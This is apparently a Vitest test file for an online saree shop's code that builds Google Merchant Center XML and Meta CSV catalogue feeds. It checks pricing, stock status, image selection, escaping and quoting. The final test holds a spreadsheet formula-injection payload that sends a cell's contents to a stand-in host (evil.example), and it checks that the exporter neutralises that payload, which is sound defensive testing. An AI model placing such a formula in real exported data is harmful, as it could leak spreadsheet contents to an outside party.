import { parse } from 'csv-parse/sync'
import { XMLParser } from 'fast-xml-parser'
import { describe, expect, test } from 'vitest'

import type { FeedProduct } from '~/models/catalogue-feed.server'
import { SAREE_PRODUCT_CATEGORY } from '~/schemas/category'

import { buildFeedEntries, FEED_IMAGE_MIN_SIDE, googleFeedXml, metaFeedCsv } from './catalogue-feed.server'

const origin = 'https://shop.example'
const photo = (key: string, width: number, height: number) => ({ key: `images/${key}`, width, height })

const tricky: FeedProduct = {
	id: 7,
	code: 'PI-302',
	name: 'Rust "Telia Rumal" Saree, Grid & Border – తేలియా <b>',
	description: '**Rust** silk, a "grid" & border.\nచేనేత పట్టు చీర\u0007\n\nPure silk, <i>6.2 m</i>.',
	category: 'Pochampally Ikkat',
	googleProductCategory: SAREE_PRODUCT_CATEGORY,
	categoryTe: 'పోచంపల్లి ఇక్కత్',
	categoryHi: '',
	status: 'active',
	reserved: false,
	originalPricePaise: 1_200_000,
	salePricePaise: 1_050_050,
	images: [
		photo('a', 1200, 1600),
		photo('b', 400, 533),
		photo('c', 1600, 2000),
		photo('d', 900, 1200),
		photo('e', 1200, 900),
		photo('f', 800, 800),
	],
}
const soldOut: FeedProduct = {
	...tricky,
	id: 8,
	code: 'DPI-204',
	name: 'Bottle Green Saree',
	description: '',
	status: 'out_of_stock',
	salePricePaise: 1_200_000,
	images: [photo('g', 2000, 3000)],
}
const tooSmall: FeedProduct = {
	...soldOut,
	id: 9,
	code: 'SM-1',
	name: 'Small Photo Saree',
	status: 'active',
	images: [photo('h', 480, 640)],
}

const { entries, problems } = buildFeedEntries([tricky, soldOut, tooSmall], origin)
const shopName = 'Silk & "Sons", Pochampally'

describe('feed entries', () => {
	test('the code is the id, the link the canonical product page, prices from the original with a lower sale price', () => {
		expect(entries.map((e) => e.id)).toEqual(['PI-302', 'DPI-204'])
		const [first, second] = entries
		expect(first!.link).toBe('https://shop.example/product/7')
		expect(first!.price).toBe('12000.00 INR')
		expect(first!.salePrice).toBe('10500.50 INR')
		expect(second!.salePrice).toBeNull()
		expect(second!.inStock).toBe(false)
	})

	test('a reserved saree (every piece held by an open order) is out of stock, an active one in stock', () => {
		const [reserved] = buildFeedEntries([{ ...tricky, reserved: true }], origin).entries
		expect(reserved!.inStock).toBe(false)
		expect(entries[0]!.inStock).toBe(true)
	})

	test('images: the largest JPEG of photos at least 500 px on both sides, four more at most; smaller ones reported', () => {
		const [first] = entries
		expect(first!.image).toEqual({ url: 'https://shop.example/media/images/a/1200.jpg', width: 1200, height: 1600 })
		expect(first!.moreImages.map((i) => i.url)).toEqual([
			'https://shop.example/media/images/c/1600.jpg',
			'https://shop.example/media/images/d/900.jpg',
			'https://shop.example/media/images/e/1200.jpg',
			'https://shop.example/media/images/f/800.jpg',
		])
		for (const image of [first!.image, ...first!.moreImages]) {
			expect(Math.min(image.width, image.height)).toBeGreaterThanOrEqual(FEED_IMAGE_MIN_SIDE)
			expect(image.url).not.toMatch(/avif|webp/)
		}
		expect(problems).toEqual([
			{ productId: 7, code: 'PI-302', name: tricky.name, tooSmall: [2], leftOut: false },
			{ productId: 9, code: 'SM-1', name: 'Small Photo Saree', tooSmall: [1], leftOut: true },
		])
	})

	test('the description is plain text: Markdown stripped, no HTML, one line; an empty one is written for the saree', () => {
		expect(entries[0]!.description).toBe('Rust silk, a “grid” & border. చేనేత పట్టు చీర Pure silk, <i>6.2 m</i>.')
		expect(entries[1]!.description).toBe(
			'Bottle Green Saree, a handwoven Pochampally Ikkat silk saree. 6.5 meters with a matching blouse piece.',
		)
	})
})

describe('Google Merchant Center feed', () => {
	const xml = googleFeedXml({ entries, shopName, origin })
	const parsed = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'item' || name === 'g:additional_image_link' }).parse(
		xml,
	)

	test('is RSS 2.0 with the g: namespace and every attribute in its own spelling', () => {
		expect(parsed.rss['@_version']).toBe('2.0')
		expect(parsed.rss['@_xmlns:g']).toBe('http://base.google.com/ns/1.0')
		const [item, sold] = parsed.rss.channel.item
		expect(item['g:id']).toBe('PI-302')
		expect(item.title).toBe(tricky.name)
		expect(item.link).toBe('https://shop.example/product/7')
		expect(item['g:availability']).toBe('in_stock')
		expect(sold['g:availability']).toBe('out_of_stock')
		expect(item['g:price']).toBe('12000.00 INR')
		expect(item['g:sale_price']).toBe('10500.50 INR')
		expect(sold['g:sale_price']).toBeUndefined()
		expect(item['g:condition']).toBe('new')
		expect(item['g:brand']).toBe(shopName)
		expect(item['g:identifier_exists']).toBe('no')
		expect(item['g:google_product_category']).toBe(SAREE_PRODUCT_CATEGORY)
		expect(item['g:product_type']).toBe('Pochampally Ikkat')
		// A category's Telugu and Hindi names travel as custom labels; an empty one is left out.
		expect(item['g:custom_label_0']).toBe('పోచంపల్లి ఇక్కత్')
		expect(item['g:custom_label_1']).toBeUndefined()
		expect(item['g:additional_image_link']).toHaveLength(4)
	})

	test('escapes what the seller typed and drops characters XML cannot carry', () => {
		expect(xml).toContain('Rust &quot;Telia Rumal&quot; Saree, Grid &amp; Border – తేలియా &lt;b&gt;')
		expect(xml).not.toContain('\u0007')
		expect(metaFeedCsv({ entries, shopName })).not.toContain('\u0007')
		expect(parsed.rss.channel.item[0].description).toBe(entries[0]!.description)
	})

	test('keeps titles within 150 characters', () => {
		const long = buildFeedEntries([{ ...tricky, name: 'Silk '.repeat(60) }], origin).entries
		const item = new XMLParser({ isArray: (name) => name === 'item' }).parse(googleFeedXml({ entries: long, shopName, origin })).rss.channel
			.item[0]
		expect(item.title.length).toBeLessThanOrEqual(150)
	})
})

describe('Meta catalogue feed', () => {
	const csv = metaFeedCsv({ entries, shopName })
	const rows: Array<Record<string, string>> = parse(csv, { columns: true, bom: true })

	test('has a header row and one row per saree with Meta spellings', () => {
		expect(csv.split('\r\n')[0]).toBe(
			'id,title,description,availability,condition,price,sale_price,link,image_link,additional_image_link,brand,google_product_category,product_type,gender,age_group,custom_label_0,custom_label_1',
		)
		expect(rows).toHaveLength(2)
		const [row, sold] = rows
		expect(row).toMatchObject({
			id: 'PI-302',
			title: tricky.name,
			description: entries[0]!.description,
			availability: 'in stock',
			condition: 'new',
			price: '12000.00 INR',
			sale_price: '10500.50 INR',
			link: 'https://shop.example/product/7',
			image_link: 'https://shop.example/media/images/a/1200.jpg',
			brand: shopName,
			google_product_category: SAREE_PRODUCT_CATEGORY,
			product_type: 'Pochampally Ikkat',
			custom_label_0: 'పోచంపల్లి ఇక్కత్',
			custom_label_1: '',
		})
		expect(row!.additional_image_link!.split(',')).toHaveLength(4)
		expect(sold).toMatchObject({ availability: 'out of stock', sale_price: '' })
	})

	test('a line break typed in a title stays inside its quoted field', () => {
		const broken = buildFeedEntries([{ ...tricky, name: 'Two\nlines, "quoted"' }], origin).entries
		const [row] = parse(metaFeedCsv({ entries: broken, shopName }), { columns: true }) as Array<Record<string, string>>
		expect(row!.title).toBe('Two lines, "quoted"')
		expect(row!.id).toBe('PI-302')
	})

	test('text a spreadsheet would run as a formula starts with an apostrophe', () => {
		const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
		const risky = buildFeedEntries([{ ...tricky, name: formula, description: '@SUM(1+1)' }], origin).entries
		const [row] = parse(metaFeedCsv({ entries: risky, shopName: '+91 Silks' }), { columns: true }) as Array<Record<string, string>>
		expect(row!.title).toBe(`'${formula}`)
		expect(row!.description).toBe("'@SUM(1+1)")
		expect(row!.brand).toBe("'+91 Silks")
		expect(row!.price).toBe('12000.00 INR')
	})
})
